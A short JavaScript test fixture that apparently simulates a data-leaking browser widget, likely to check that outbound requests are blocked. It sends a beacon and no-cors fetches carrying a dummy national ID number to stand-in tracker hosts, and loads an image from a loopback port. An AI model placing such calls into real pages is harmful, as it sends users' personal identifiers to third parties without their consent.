// What a leaking widget might do: a fetch to another host over http and https, an image on
// a loopback port that is not the page's, and a beacon. Resolves once each has settled.
// arguments: the loopback URL
const [loopback] = arguments;
const settle = (p) => p.then(() => 'ok', () => 'failed');
const image = (src) => new Promise((resolve) => {
  const img = new Image();
  img.onload = img.onerror = () => resolve('settled');
  img.src = src;
});
navigator.sendBeacon('http://beacon.example/collect', 'nir=1850775123456');
return Promise.all([
  settle(fetch('http://tracker.example/p?nir=1850775123456', { mode: 'no-cors' })),
  settle(fetch('https://tracker.example/p', { mode: 'no-cors' })),
  image(loopback),
]);
